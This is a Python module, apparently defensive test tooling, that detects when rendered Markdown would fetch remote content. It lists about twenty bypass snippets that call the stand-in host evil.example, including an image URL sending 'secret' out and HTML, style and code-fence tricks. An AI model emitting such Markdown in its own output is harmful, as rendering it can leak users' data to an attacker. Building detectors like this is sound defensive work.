"""What rendering Markdown may fetch, as a real Markdown parser sees it, and texts that try to."""

from __future__ import annotations

import re

from markdown_it import MarkdownIt

_PARSERS = (MarkdownIt("commonmark"), MarkdownIt("commonmark").enable("table"))

LOADING = [
    "![x](https://evil.example/?q=secret)",
    "![x](  <https://evil.example/a b>)",
    "!![x](//evil.example/p)",
    "![x](&#104;ttps://evil.example/p)",
    "![a\n[b] c](https\\://evil.example/p)",
    "![x][r]\n\n[r]: https://evil.example/p",
    "![r]\n\n> [r]:\n> https://evil.example/p",
    "<img src=https://evil.example/p>",
    "a <img\nsrc=https://evil.example/p>",
    "a <b style='background: url(https://evil.example/p)'>",
    "a <STYLE>@import 'https://evil.example/p'</style>",
    "- a\n  ```\n<img src=https://evil.example/p>\n",
    "- a\n\n      ```\n  <img src=https://evil.example/p>\n",
    "``` a`b\n<img src=https://evil.example/p>\n",
    "<T>\n```\n<img src=https://evil.example/p>\n```\n</T>",
    "<!-- \n```\n-->\n<iframe src=https://evil.example/p>",
    "`a\nb` <img src=https://evil.example/p> `c`",
    "\\` <img src=https://evil.example/p> `",
    "[![x](https://evil.example/p)](https://example.org)",
]

PIECES = [
    *("![x](https://e.example/p)", "[r]: https://e.example", "[r]:\n https://e.example", "![r]", "![x][r]"),
    *("![\\]](https://e.example)", "![x [y] z](https://e.example)", "![`a`](https://e.example)", "!"),
    *("<img src=//e>", "<T>", "<a\nhref=x>", "<style>", "<!--", "-->", "<div>", "</div>", "&lt;", "<"),
    *("`", "``", "```", "~~~", "\n", "\n\n", "\r", "\t", "  ", "    ", "- ", "> ", "1. ", "# ", "\\"),
    *("[", "]", "(", ")", ":", "a", "](", "\n```\n", "\n---\n", "   ", "\n   ```\n", "\n    ```\n"),
    *("|", "| a | b |\n|---|---|\n", "\\<", "\\!["),
]


def loads(markdown: str) -> list[str]:
    """Return what rendering may fetch: images, and tags with attributes or with programs."""
    found = []
    for token in [token for parser in _PARSERS for token in parser.parse(markdown)]:
        for part in [token, *(token.children or [])]:
            if part.type == "image":
                found.append(str(part.attrs.get("src")))
            elif part.type in {"html_block", "html_inline"}:
                found += re.findall(r"(?i)<[a-z][^>]*=|<(?:style|script)", part.content)
    return found
